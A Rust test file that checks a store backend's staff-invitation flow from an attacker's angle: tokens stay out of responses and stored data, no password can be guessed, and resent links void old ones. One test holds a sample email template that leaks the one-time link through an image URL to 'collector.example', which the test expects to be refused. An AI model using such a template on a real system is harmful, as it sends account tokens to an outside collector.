//! Invitations as an attacker would try them: no token in any response or stored email, no
//! password checked (so none can be guessed), a resent link voids the old one.

use openapi::auth::{MeOut, TokensOut};
use openapi::mail::{EmailOut, TemplateIn, TemplateOut};
use openapi::tenancy::{InvitationAcceptIn, InvitationIn, Role};

use crate::db_test;
use crate::harness::TestApp;
use crate::harness::client::PASSWORD;
use crate::harness::mailbox::token_in;
use crate::mail::email_log;

fn invitation(email: &str, role: Role) -> InvitationIn {
    InvitationIn {
        email: email.into(),
        role,
    }
}

/// Accepting with a token, and a name and password when a new account is made.
fn acceptance(token: &str, name: Option<&str>, password: Option<&str>) -> InvitationAcceptIn {
    InvitationAcceptIn {
        token: token.into(),
        name: name.map(Into::into),
        password: password.map(Into::into),
    }
}

/// Every stored row an API or a person with database reads could see, as text: the email
/// log, idempotent responses, the outbox's payloads and the audit log.
async fn stored_text(app: &TestApp) -> String {
    use sea_orm::EntityTrait;
    let db = app.db();
    let mut text = String::new();
    for rows in [
        entity::email::Entity::find()
            .into_json()
            .all(db)
            .await
            .unwrap(),
        entity::idempotency_key::Entity::find()
            .into_json()
            .all(db)
            .await
            .unwrap(),
        entity::audit_event::Entity::find()
            .into_json()
            .all(db)
            .await
            .unwrap(),
    ] {
        text.push_str(&serde_json::to_string(&rows).unwrap());
    }
    for event in entity::outbox_event::Entity::find().all(db).await.unwrap() {
        text.push_str(&event.payload.to_string());
    }
    text
}

/// Secrets the outbox still holds: none once every event is done.
async fn outbox_secrets(app: &TestApp) -> Vec<String> {
    use sea_orm::EntityTrait;
    entity::outbox_event::Entity::find()
        .all(app.db())
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.status != entity::closed_sets::OutboxStatus::Pending)
        .filter_map(|e| e.secret)
        .collect()
}

db_test!(
    an_invitation_is_no_way_to_guess_or_learn_a_password,
    |app| {
        let victim = app.signup("Vitoria").await;
        let stranger = app.signup("Estevao").await;
        // Anyone may open a store and invite any address; the token goes to that address only.
        let invited = app
            .post("/api/v1/invitations")
            .as_(&stranger)
            .header("idempotency-key", "invite-vitoria")
            .json(&invitation(&victim.email, Role::Staff))
            .send()
            .await
            .expect(201);
        assert!(
            !invited.body.to_string().contains("inv_"),
            "{:#}",
            invited.body
        );
        // Even holding the token, nobody learns or guesses the account's password: no password
        // is checked, the right one no more than a wrong one.
        let token = app.invitation_token(&victim.email).await;
        for password in ["not her password", PASSWORD] {
            for path in [
                "/api/v1/invitations/accept",
                "/api/v1/auth/browser/invitations/accept",
            ] {
                app.post(path)
                    .json(&acceptance(&token, Some("Eve"), Some(password)))
                    .send()
                    .await
                    .problem(409, "tenancy/sign-in-to-accept");
            }
        }
        // Signed in to another account, it is not theirs to accept.
        app.post("/api/v1/invitations/accept")
            .as_(&stranger)
            .json(&acceptance(&token, None, None))
            .send()
            .await
            .problem(403, "tenancy/invitation-for-another-account");
        // Signed in, the invited account joins without sending any password.
        app.post("/api/v1/invitations/accept")
            .as_(&victim)
            .json(&acceptance(&token, None, Some(PASSWORD)))
            .send()
            .await
            .problem(422, "request/validation");
        let joined: TokensOut = app
            .post("/api/v1/invitations/accept")
            .as_(&victim)
            .json(&acceptance(&token, None, None))
            .returns(200)
            .await;
        let me: MeOut = app
            .get("/api/v1/me")
            .token(&joined.access_token)
            .returns(200)
            .await;
        assert_eq!(me.tenant.id, stranger.tenant_id);
        assert_eq!(me.role, Role::Staff);
        // Nothing stored holds the token, and the outbox let go of it once the email went.
        assert!(!stored_text(&app).await.contains(&token));
        assert_eq!(outbox_secrets(&app).await, Vec::<String>::new());
    }
);

db_test!(
    a_resent_invitation_carries_a_new_token_and_voids_the_old,
    |app| {
        let owner = app.signup("Olga").await;
        app.post("/api/v1/invitations")
            .as_(&owner)
            .json(&invitation("paulo@olga.example.com", Role::Viewer))
            .send()
            .await
            .expect(201);
        let first = app.invitation_token("paulo@olga.example.com").await;
        let email_id = email_log(&app, &owner, "?kind=member_invitation").await[0].id;
        let resent: EmailOut = app
            .post(&format!("/api/v1/emails/{email_id}/resend"))
            .as_(&owner)
            .returns(201)
            .await;
        assert!(resent.text.contains("token=[redacted]"), "{resent:#?}");
        let sent = app.mail_to("paulo@olga.example.com", 2).await;
        let second = token_in(&sent[1].text()).unwrap();
        assert_ne!(first, second);
        app.post("/api/v1/invitations/accept")
            .json(&acceptance(&first, Some("Paulo"), Some(PASSWORD)))
            .send()
            .await
            .problem(404, "not-found");
        app.post("/api/v1/invitations/accept")
            .json(&acceptance(&second, Some("Paulo"), Some(PASSWORD)))
            .send()
            .await
            .expect(200);
        let stored = stored_text(&app).await;
        assert!(!stored.contains(&first) && !stored.contains(&second));
        assert_eq!(outbox_secrets(&app).await, Vec::<String>::new());
        // An accepted invitation is not sent again.
        app.post(&format!("/api/v1/emails/{email_id}/resend"))
            .as_(&owner)
            .send()
            .await
            .problem(409, "tenancy/invitation-not-pending");
    }
);

db_test!(
    an_invitation_is_emailed_with_its_link_shown_redacted_in_the_log,
    |app| {
        let owner = app.signup("Heitor").await;
        app.post("/api/v1/invitations")
            .as_(&owner)
            .json(&invitation("nova@equipe.example.com", Role::Staff))
            .send()
            .await
            .expect(201);
        let token = app.invitation_token("nova@equipe.example.com").await;
        assert!(token.starts_with("inv_"), "{token}");
        let sent = app.mail_to("nova@equipe.example.com", 1).await;
        assert!(sent[0].text().contains(&format!(
            "http://retaguarda.test/accept-invitation?token={token}"
        )));
        assert!(
            sent[0]
                .html()
                .contains(&format!("accept-invitation?token={token}"))
        );
        let log = email_log(&app, &owner, "?kind=member_invitation").await;
        assert_eq!(log.len(), 1);
        assert_eq!(log[0].to, "nova@equipe.example.com");
        assert_eq!(log[0].subject, "Convite para a equipe da Loja Heitor");
        let body = &log[0].text;
        assert!(
            body.contains("http://retaguarda.test/accept-invitation?token=[redacted]"),
            "{body}"
        );
        assert!(!body.contains(&token), "{body}");
    }
);

db_test!(
    a_store_cannot_rewrite_the_email_that_carries_a_one_time_link,
    |app| {
        let owner = app.signup("Zelia").await;
        // Written by the store, the link could be sent elsewhere (an image's address, say).
        let leaky = TemplateIn {
            subject: "Convite".into(),
            text: "{{ invitation.url }}".into(),
            html: "<img src=\"https://collector.example/?{{ invitation.url }}\">".into(),
        };
        app.call(
            reqwest::Method::PUT,
            "/api/v1/mail/templates/member_invitation/pt-BR",
        )
        .as_(&owner)
        .json(&leaky)
        .send()
        .await
        .problem(422, "mail/template-not-editable");
        let templates: Vec<TemplateOut> = app
            .get("/api/v1/mail/templates")
            .as_(&owner)
            .returns(200)
            .await;
        assert!(
            templates
                .iter()
                .all(|t| t.kind != openapi::mail::EmailKind::MemberInvitation),
            "{templates:#?}"
        );
        // One saved before this rule (written below the API) is not used either.
        use sea_orm::EntityTrait;
        let saved = entity::email_template::Model {
            tenant_id: entity::TenantId::from(owner.tenant_id),
            id: uuid::Uuid::now_v7(),
            kind: openapi::mail::EmailKind::MemberInvitation,
            locale: openapi::tenancy::Locale::PtBr,
            subject: "Convite".into(),
            text_body: leaky.text.clone(),
            html_body: leaky.html.clone(),
            updated_at: chrono::Utc::now(),
        };
        entity::email_template::Entity::insert(entity::email_template::ActiveModel::from(saved))
            .exec_without_returning(app.db())
            .await
            .unwrap();
        app.post("/api/v1/invitations")
            .as_(&owner)
            .json(&invitation("ze@zelia.example.com", Role::Staff))
            .send()
            .await
            .expect(201);
        let sent = app.mail_to("ze@zelia.example.com", 1).await;
        assert!(
            !sent[0].html().contains("collector.example"),
            "{}",
            sent[0].html()
        );
        assert_eq!(sent[0].subject(), "Convite para a equipe da Loja Zelia");
    }
);
